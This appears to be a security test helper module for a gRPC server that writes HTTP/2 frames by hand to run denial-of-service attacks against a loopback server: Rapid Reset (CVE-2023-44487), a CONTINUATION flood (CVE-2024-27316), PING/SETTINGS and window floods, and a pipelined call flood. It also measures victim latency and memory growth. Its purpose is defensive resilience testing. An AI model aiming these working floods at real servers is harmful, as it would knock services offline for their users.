"""Raw-socket HTTP/2 attackers (loopback only, bounded in time and bytes) and what the attack tests measure.

Frames are written by hand (HPACK from ``hpack``) so the attacks can do what no well-behaved
client does. The sustained attacks also run as a separate process
(``python -m security.h2attack NAME PORT SECONDS``, from ``tests/``), so the attacker's Python
does not share a GIL with the victim whose latency is measured; the process prints one JSON line:
what it sent and how the server closed its connections.
"""

from __future__ import annotations

import json
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
INITIAL_WINDOW_SIZE = 0x4
NO_ERROR, PROTOCOL_ERROR, CANCEL, REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x0, 0x1, 0x8, 0x7, 0xB
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
ONLINE = "/feast.serving.ServingService/GetOnlineFeatures"
TESTS = Path(__file__).resolve().parents[1]


def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", ftype, flags, stream_id) + payload


def grpc_message(data: bytes) -> bytes:
    return struct.pack(">BI", 0, len(data)) + data


def request_headers(path: str, extra: list[tuple[str, str]] | None = None) -> list[tuple[str, str]]:
    return [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"), ("te", "trailers"), *(extra or []),
    ]  # fmt: skip


@dataclass
class Frame:
    type: int
    flags: int
    stream: int
    payload: bytes

    @property
    def code(self) -> int:
        """The error code of GOAWAY or RST_STREAM."""
        return int.from_bytes(self.payload[4:8] if self.type == GOAWAY else self.payload[:4], "big")


class Conn:
    """One raw HTTP/2 connection: the preface and SETTINGS sent, frames read on demand."""

    def __init__(self, port: int, settings: dict[int, int] | None = None, *, handshake: bool = True) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buf = b""
        self.frames: list[Frame] = []
        self.eof = False
        self.next_stream = 1
        if handshake:
            payload = b"".join(struct.pack(">HI", k, v) for k, v in (settings or {}).items())
            self.send(PREFACE + frame(SETTINGS, 0, 0, payload))

    def close(self) -> None:
        self.sock.close()

    def send(self, data: bytes) -> bool:
        """Send everything; False if the server closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.eof = True
            return False

    def stream_id(self) -> int:
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def headers(
        self, sid: int, path: str, *, end_stream: bool = False, extra: list[tuple[str, str]] | None = None
    ) -> bytes:
        block = self.encoder.encode(request_headers(path, extra))
        return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), sid, block)

    def unary(self, path: str, message: bytes) -> tuple[int, bytes]:
        sid = self.stream_id()
        return sid, self.headers(sid, path) + frame(DATA, END_STREAM, sid, grpc_message(message))

    def read(self, timeout: float) -> list[Frame]:
        """Frames of the next read ([] on timeout or EOF)."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(1 << 20)
        except TimeoutError:
            return []
        except OSError:
            data = b""
        if not data:
            self.eof = True
            return []
        self.buf += data
        return _parse_rest(self)

    def drain(self, seconds: float) -> None:
        """Read whatever comes within ``seconds`` (or until EOF)."""
        deadline = time.monotonic() + seconds
        while not self.eof and (left := deadline - time.monotonic()) > 0:
            self.read(left)

    def until_closed(self, seconds: float) -> bool:
        """Read until EOF; whether it came within ``seconds``."""
        self.drain(seconds)
        return self.eof

    def goaway(self) -> int | None:
        codes = [f.code for f in self.frames if f.type == GOAWAY]
        return codes[-1] if codes else None

    def resets(self) -> list[int]:
        return [f.code for f in self.frames if f.type == RST_STREAM]

    def status_of(self, sid: int) -> int | None:
        """grpc-status of a stream (from its last header block), None if none came."""
        status = None
        for f in self.frames:
            if f.type == HEADERS and f.stream == sid:
                headers = dict(self.decoder.decode(f.payload, raw=True))
                if b"grpc-status" in headers:
                    status = int(headers[b"grpc-status"])
            elif f.type == HEADERS:
                self.decoder.decode(f.payload)
        return status


# -- what the tests measure ---------------------------------------------------------------------


def rss_bytes(pid: int) -> int:
    """Resident set size of process ``pid``."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no VmRSS for {pid}")


class RssPeak:
    """The highest RSS of ``pid`` sampled every 20 ms while the context is open, relative to the start."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.start = rss_bytes(pid)
        self.peak = self.start
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self._stop.wait(0.02):
            self.peak = max(self.peak, rss_bytes(self.pid))

    def __enter__(self) -> RssPeak:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, rss_bytes(self.pid))

    @property
    def growth_mb(self) -> float:
        return (self.peak - self.start) / 1e6


@dataclass
class Victim:
    """A well-behaved client on its own connection: one Health/Check at a time, each timed."""

    port: int
    latencies: list[float] = field(default_factory=list)
    failures: int = 0

    def run(self, seconds: float, stop: Callable[[], bool] = lambda: False) -> None:
        conn = Conn(self.port)
        try:
            conn.drain(0.05)
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline and not stop():
                sid, data = conn.unary(HEALTH_CHECK, b"")
                started = time.perf_counter()
                conn.send(data)
                if not self._answered(conn, sid):
                    self.failures += 1
                    conn.close()
                    conn = Conn(self.port)
                    continue
                self.latencies.append(time.perf_counter() - started)
                time.sleep(0.005)
        finally:
            conn.close()

    @staticmethod
    def _answered(conn: Conn, sid: int) -> bool:
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not conn.eof:
            for f in conn.read(deadline - time.monotonic()):
                if f.stream == sid and f.type == HEADERS and f.flags & END_STREAM:
                    return True
                if f.stream == sid and f.type == RST_STREAM:
                    return False
                if f.type == PING and not f.flags & ACK:
                    conn.send(frame(PING, ACK, 0, f.payload))
        return False

    @property
    def p99_ms(self) -> float:
        assert self.latencies, f"the victim got no answer at all ({self.failures} failures)"
        ordered = sorted(self.latencies)
        return 1000 * ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]


def run_attacker(name: str, port: int, seconds: float) -> subprocess.Popen[str]:
    """Start ``name`` (a function of :data:`ATTACKS`) in its own process."""
    command = [sys.executable, "-m", "security.h2attack", name, str(port), str(seconds)]
    return subprocess.Popen(command, cwd=TESTS, stdout=subprocess.PIPE, text=True)


def attacker_result(process: subprocess.Popen[str], timeout: float = 30) -> dict[str, object]:
    out, _ = process.communicate(timeout=timeout)
    assert process.returncode == 0, out
    return dict(json.loads(out.strip().splitlines()[-1]))


# -- the sustained attacks (each in its own process) ----------------------------------------------


def _reconnecting(port: int, seconds: float, first: Callable[[Conn], bytes], burst: Callable[[Conn], bytes],
                  *, read: bool) -> dict[str, object]:  # fmt: skip
    """Connect, send ``first``, then ``burst`` after ``burst`` until the server closes; repeat until time is up."""
    deadline = time.monotonic() + seconds
    codes: list[int | None] = []
    sent = connections = 0
    while time.monotonic() < deadline:
        try:
            conn = Conn(port)
        except OSError:
            time.sleep(0.01)
            continue
        connections += 1
        conn.sock.settimeout(1.0)
        if not conn.send(first(conn)):
            codes.append(None)
            continue
        while time.monotonic() < deadline:
            data = burst(conn)
            try:
                conn.sock.sendall(data)
            except (OSError, TimeoutError):
                break
            sent += len(data)
            if read:
                conn.sock.setblocking(False)
                try:
                    chunk = conn.sock.recv(1 << 20)
                    if not chunk:
                        break
                    conn.buf += chunk
                    _parse_rest(conn)  # as it comes: the answers to a flood add up
                except BlockingIOError:
                    pass
                except OSError:
                    break
                conn.sock.setblocking(True)
                conn.sock.settimeout(1.0)
        conn.sock.setblocking(True)
        conn.drain(1.0)  # whatever the server said before it closed
        _parse_rest(conn)
        codes.append(conn.goaway())
        conn.close()
    closes = {str(code): codes.count(code) for code in set(codes)}  # GOAWAY code (None: no GOAWAY) -> count
    return {"connections": connections, "mb_sent": round(sent / 1e6, 1), "closes": closes}


def _parse_rest(conn: Conn) -> list[Frame]:
    """The complete frames in ``conn.buf`` (added to ``conn.frames``); the rest stays in the buffer."""
    buf, pos, out = conn.buf, 0, []
    while len(buf) - pos >= 9:
        length = int.from_bytes(buf[pos : pos + 3], "big")
        if len(buf) - pos < 9 + length:
            break
        ftype, flags, sid = struct.unpack_from(">BBI", buf, pos + 3)
        out.append(Frame(ftype, flags, sid & 0x7FFFFFFF, buf[pos + 9 : pos + 9 + length]))
        pos += 9 + length
    conn.buf = buf[pos:]
    conn.frames += out
    return out


def rapid_reset(port: int, seconds: float) -> dict[str, object]:
    """HEADERS + RST_STREAM pairs at full speed, 200 per write, reconnecting whenever cut (CVE-2023-44487)."""
    cancel = struct.pack(">I", CANCEL)

    def burst(conn: Conn) -> bytes:
        out = []
        for _ in range(200):
            sid = conn.stream_id()
            out.append(conn.headers(sid, HEALTH_CHECK) + frame(RST_STREAM, 0, sid, cancel))
        return b"".join(out)

    return _reconnecting(port, seconds, lambda c: b"", burst, read=True)


def control_flood(port: int, seconds: float) -> dict[str, object]:
    """PING and SETTINGS frames at full speed; the acknowledgements are never read."""
    chunk = (frame(PING, 0, 0, bytes(8)) * 9 + frame(SETTINGS, 0, 0)) * 400
    return _reconnecting(port, seconds, lambda c: b"", lambda c: chunk, read=False)


def continuation_flood(port: int, seconds: float) -> dict[str, object]:
    """HEADERS without END_HEADERS, then empty CONTINUATION frames without end (CVE-2024-27316)."""
    chunk = frame(CONTINUATION, 0, 1) * 5000

    def first(conn: Conn) -> bytes:
        return frame(HEADERS, 0, conn.stream_id(), conn.encoder.encode(request_headers(HEALTH_CHECK)))

    return _reconnecting(port, seconds, first, lambda c: chunk, read=False)


def settings_window_flood(port: int, seconds: float) -> dict[str, object]:
    """100 open streams, then SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries each."""
    entries = b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535 + (i & 1)) for i in range(2730))
    chunk = frame(SETTINGS, 0, 0, entries) * 4

    def first(conn: Conn) -> bytes:
        return b"".join(conn.headers(conn.stream_id(), HEALTH_CHECK) for _ in range(100))

    return _reconnecting(port, seconds, first, lambda c: chunk, read=False)


def call_flood(port: int, seconds: float) -> dict[str, object]:
    """Valid Health/Check calls pipelined 500 per write, windows wide open, answers read between writes."""

    def first(conn: Conn) -> bytes:
        wide = struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1)
        return frame(SETTINGS, 0, 0, wide) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))

    def burst(conn: Conn) -> bytes:
        return b"".join(conn.unary(HEALTH_CHECK, b"")[1] for _ in range(500))

    return _reconnecting(port, seconds, first, burst, read=True)


ATTACKS: dict[str, Callable[[int, float], dict[str, object]]] = {
    f.__name__: f for f in (rapid_reset, control_flood, continuation_flood, settings_window_flood, call_flood)
}


def many(port: int, count: int, settings: dict[int, int] | None = None) -> Iterator[Conn]:
    """``count`` connections (those the server refuses at once are still yielded)."""
    for _ in range(count):
        yield Conn(port, settings)


if __name__ == "__main__":
    attack, port_arg, seconds_arg = sys.argv[1:4]
    print(json.dumps(ATTACKS[attack](int(port_arg), float(seconds_arg))))
